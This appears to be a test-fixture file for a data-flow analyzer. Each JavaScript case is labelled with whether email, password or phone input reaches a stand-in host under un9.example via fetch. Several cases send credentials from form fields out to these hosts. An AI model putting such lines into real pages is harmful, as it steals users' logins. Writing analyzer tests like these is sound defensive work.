//# reset-object-by-loop
// no flow
const s1 = { mail: document.querySelector('input[type=email]').value };
for (const k in s1) s1[k] = '';
fetch('https://rol.un9.example/', { method: 'POST', body: JSON.stringify(s1) });

//# keys-deleted-each
// no flow
const s2 = { mail: document.querySelector('input[type=email]').value, pass: document.querySelector('input[type=password]').value };
Object.keys(s2).forEach((k) => delete s2[k]);
fetch('https://kde.un9.example/', { method: 'POST', body: JSON.stringify(s2) });

//# state-replaced-in-instance
// no flow
class Form3 {
  constructor() { this.state = { mail: document.querySelector('input[type=email]').value }; }
  reset() { this.state = { mail: '' }; }
  post() { return fetch('https://sri.un9.example/', { method: 'POST', body: JSON.stringify(this.state) }); }
}
const f3 = new Form3();
f3.reset();
f3.post();

//# submitted-before-reset
// flow: email > sbr.un9.example via fetch
class Form4 {
  constructor() { this.state = { mail: document.querySelector('input[type=email]').value }; }
  reset() { this.state = { mail: '' }; }
  post() { return fetch('https://sbr.un9.example/', { method: 'POST', body: JSON.stringify(this.state) }); }
}
const f4 = new Form4();
f4.post();
f4.reset();

//# variable-cleared-by-function
// no flow
let draft5 = document.querySelector('textarea[name=message]').value;
function discard5() { draft5 = null; }
discard5();
fetch('https://vcf.un9.example/', { method: 'POST', body: JSON.stringify({ draft5 }) });

//# conditional-clear-keeps
// flow: message > cck.un9.example via fetch
let draft6 = document.querySelector('textarea[name=message]').value;
function discard6() { draft6 = null; }
if (Math.random() > 0.5) discard6();
fetch('https://cck.un9.example/', { method: 'POST', body: JSON.stringify({ draft6 }) });

//# set-cleared
// no flow
const seen7 = new Set([document.querySelector('input[type=email]').value]);
seen7.clear();
seen7.add('start');
fetch('https://scl.un9.example/', { method: 'POST', body: JSON.stringify([...seen7]) });

//# set-entry-deleted
// no flow
const mail8 = document.querySelector('input[type=email]').value;
const seen8 = new Set(['x']);
seen8.add(mail8);
seen8.delete(mail8);
fetch('https://sed.un9.example/', { method: 'POST', body: JSON.stringify([...seen8]) });

//# headers-deleted
// no flow
const h9 = new Headers();
h9.set('x-id', localStorage.getItem('uid'));
h9.delete('x-id');
fetch('https://hdl.un9.example/', { headers: h9 });

//# options-body-replaced
// no flow
const init10 = { method: 'POST', body: document.querySelector('input[type=password]').value };
init10.body = 'none';
fetch('https://obr.un9.example/', init10);

//# array-index-overwritten
// no flow
const row11 = ['login', document.querySelector('input[type=password]').value];
row11[1] = '***';
fetch('https://aio.un9.example/', { method: 'POST', body: row11.join('|') });

//# nested-field-overwritten
// no flow
const evt12 = { user: { mail: document.querySelector('input[type=email]').value }, page: 'x' };
evt12.user.mail = 'hidden';
fetch('https://nfo.un9.example/', { method: 'POST', body: JSON.stringify(evt12) });

//# nested-object-dropped
// no flow
const evt13 = { user: { mail: document.querySelector('input[type=email]').value }, page: 'x' };
delete evt13.user;
fetch('https://nod.un9.example/', { method: 'POST', body: JSON.stringify(evt13) });

//# nested-omitted-by-rest
// flow: email > nor.un9.example via fetch
// why: near miss: the inner password is left out by the pattern
const evt14 = { user: { mail: document.querySelector('input[type=email]').value, pass: document.querySelector('input[type=password]').value } };
const { user: { pass: ignored14, ...safe14 } } = evt14;
fetch('https://nor.un9.example/', { method: 'POST', body: JSON.stringify(safe14) });

//# copy-then-clear-original
// flow: email > cco.un9.example via fetch
// why: the copy keeps it
const orig15 = { mail: document.querySelector('input[type=email]').value };
const copy15 = structuredClone(orig15);
orig15.mail = '';
fetch('https://cco.un9.example/', { method: 'POST', body: JSON.stringify(copy15) });

//# copy-cleared-original-sent
// flow: email > ccs.un9.example via fetch
const orig16 = { mail: document.querySelector('input[type=email]').value };
const copy16 = { ...orig16 };
copy16.mail = '';
fetch('https://ccs.un9.example/', { method: 'POST', body: JSON.stringify(orig16) });

//# copy-cleared-and-sent
// no flow
const orig17 = { mail: document.querySelector('input[type=email]').value };
const copy17 = { ...orig17 };
copy17.mail = '';
fetch('https://ccn.un9.example/', { method: 'POST', body: JSON.stringify(copy17) });

//# queue-drained-to-page-only
// no flow
const q18 = [];
q18.push(document.querySelector('textarea[name=message]').value);
while (q18.length) console.log(q18.shift());
q18.push('bye');
fetch('https://qdp.un9.example/', { method: 'POST', body: JSON.stringify(q18) });

//# loop-overwrites-accumulator
// no flow
let last19 = document.querySelector('input[type=password]').value;
for (const step of ['a', 'b']) last19 = step;
fetch('https://loa.un9.example/?s=' + last19);

//# switch-overwrites-all
// no flow
let kind20 = document.querySelector('input[type=password]').value;
switch (kind20.length) {
  case 0: kind20 = 'none'; break;
  case 1: kind20 = 'one'; break;
  default: kind20 = 'many';
}
fetch('https://swo.un9.example/?k=' + kind20);

//# ternary-assigns-constants
// no flow
let v21 = document.querySelector('input[type=password]').value;
v21 = v21 ? 'set' : 'unset';
fetch('https://tac.un9.example/?v=' + v21);

//# try-catch-both-clear
// no flow
let v22 = document.querySelector('input[type=password]').value;
try { JSON.parse(v22); v22 = 'json'; } catch (e) { v22 = 'text'; }
fetch('https://tcb.un9.example/?v=' + v22);

//# two-instances-of-a-client
// no flow
class Client23 {
  constructor(url) { this.url = url; this.queue = []; }
  add(x) { this.queue.push(x); }
  flush() { fetch(this.url, { method: 'POST', body: JSON.stringify(this.queue) }); }
}
const own23 = new Client23('/own');
const other23 = new Client23('https://tic.un9.example/');
own23.add(document.querySelector('input[type=password]').value);
other23.add('page-view');
other23.flush();

//# own-instance-flushed
// flow: password > self via fetch
class Client24 {
  constructor(url) { this.url = url; this.queue = []; }
  add(x) { this.queue.push(x); }
  flush() { fetch(this.url, { method: 'POST', body: JSON.stringify(this.queue) }); }
}
const own24 = new Client24('/own');
const other24 = new Client24('https://oif.un9.example/');
own24.add(document.querySelector('input[type=password]').value);
own24.flush();
other24.add('page-view');
other24.flush();

//# closures-of-two-counters
// no flow
function box25(initial) { let v = initial; return { get: () => v, put: (n) => { v = n; } }; }
const a25 = box25('');
const b25 = box25('public');
a25.put(document.querySelector('input[type=password]').value);
fetch('https://ctc.un9.example/?v=' + b25.get());

//# closure-of-first-counter
// flow: password > cfc.un9.example via fetch
function box26(initial) { let v = initial; return { get: () => v, put: (n) => { v = n; } }; }
const a26 = box26('');
const b26 = box26('public');
a26.put(document.querySelector('input[type=password]').value);
fetch('https://cfc.un9.example/?v=' + a26.get() + b26.get().length);

//# senders-by-host
// flow: email > sb1.un9.example via fetch
// flow: phone > sb2.un9.example via fetch
// why: near miss: each sender has its own host
const to27 = (host) => (data) => fetch('https://' + host + '/', { method: 'POST', body: data });
const crm27 = to27('sb1.un9.example');
const sms27 = to27('sb2.un9.example');
crm27(document.querySelector('input[type=email]').value);
sms27(document.querySelector('input[type=tel]').value);

//# clients-by-host
// flow: email > cb1.un9.example via fetch
// flow: phone > cb2.un9.example via fetch
class Api28 {
  constructor(base) { this.base = base; }
  post(path, body) { return fetch(this.base + path, { method: 'POST', body }); }
}
const one28 = new Api28('https://cb1.un9.example');
const two28 = new Api28('https://cb2.un9.example');
one28.post('/lead', document.querySelector('input[type=email]').value);
two28.post('/sms', document.querySelector('input[type=tel]').value);

//# events-by-name
// flow: email > ebn.un9.example via fetch
// why: near miss: the password's event has another listener
const bus29 = { map: {}, on(n, f) { (this.map[n] = this.map[n] || []).push(f); }, emit(n, v) { (this.map[n] || []).forEach((f) => f(v)); } };
bus29.on('mail', (v) => fetch('https://ebn.un9.example/', { method: 'POST', body: v }));
bus29.on('pass', (v) => { document.title = v ? 'ok' : ''; });
bus29.emit('mail', document.querySelector('input[type=email]').value);
bus29.emit('pass', document.querySelector('input[type=password]').value);

//# table-of-handlers-by-constant
// no flow
const table30 = { log: (v) => console.log(v), send: (v) => fetch('https://thc.un9.example/', { method: 'POST', body: v }) };
const run30 = (name, v) => table30[name](v);
run30('log', document.querySelector('input[type=password]').value);
run30('send', 'hello');

//# inherited-field-of-sibling
// no flow
class Base31 { constructor(v) { this.v = v; } }
class Secret31 extends Base31 { hide() { return this.v.length > 3; } }
class Public31 extends Base31 { show() { return fetch('https://ifs.un9.example/?v=' + this.v); } }
const s31 = new Secret31(document.querySelector('input[type=password]').value);
const p31 = new Public31('banner');
p31.show();
document.body.hidden = !s31.hide();

//# map-keyed-apart
// no flow
const m32 = new Map();
m32.set('secret', document.querySelector('input[type=password]').value);
m32.set('page', '/login');
fetch('https://mka.un9.example/?p=' + m32.get('page'));

//# list-index-apart
// no flow
const pair33 = [document.querySelector('input[type=password]').value, 'page'];
const [, shown33] = pair33;
fetch('https://lia.un9.example/?p=' + shown33 + pair33[1]);

//# returned-object-apart
// no flow
function read34() { return { secret: document.querySelector('input[type=password]').value, page: location.pathname }; }
const { page: page34 } = read34();
fetch('https://roa.un9.example/?p=' + page34 + '&q=' + read34().page);

//# async-results-apart
// no flow
async function both35() {
  const [secret, page] = await Promise.all([Promise.resolve(document.querySelector('input[type=password]').value), fetch('/page').then((r) => r.text())]);
  await fetch('https://ara.un9.example/', { method: 'POST', body: page });
  return secret.length;
}
both35();

//# react-like-state-apart
// flow: email > rls.un9.example via fetch
function Form36() {
  const [mail, setMail] = useState('');
  const [pass, setPass] = useState('');
  return h('form', { onSubmit: () => fetch('https://rls.un9.example/', { method: 'POST', body: mail }) },
    h('input', { type: 'email', onChange: (e) => setMail(e.target.value) }),
    h('input', { type: 'password', onChange: (e) => setPass(e.target.value), className: pass ? 'on' : 'off' }));
}

//# promise-chain-value-replaced
// no flow
Promise.resolve(document.querySelector('input[type=password]').value)
  .then((v) => v.length)
  .then((n) => fetch('https://pcr.un9.example/?n=' + n));

//# then-returns-nothing
// no flow
Promise.resolve(document.querySelector('input[type=password]').value)
  .then((v) => { console.log(v); })
  .then((v) => fetch('https://trn.un9.example/?n=' + v));

//# argument-order-swapped
// flow: email > aos.un9.example via fetch
// why: near miss: the function sends its second argument
function second38(a, b) { if (a) fetch('https://aos.un9.example/', { method: 'POST', body: b }); }
second38(document.querySelector('input[type=password]').value, document.querySelector('input[type=email]').value);

//# comparison-result-stored
// no flow
const state39 = {};
state39.same = document.querySelector('#p1').value === document.querySelector('#p2').value;
state39.count = document.querySelectorAll('input').length;
fetch('https://crs.un9.example/', { method: 'POST', body: JSON.stringify(state39) });
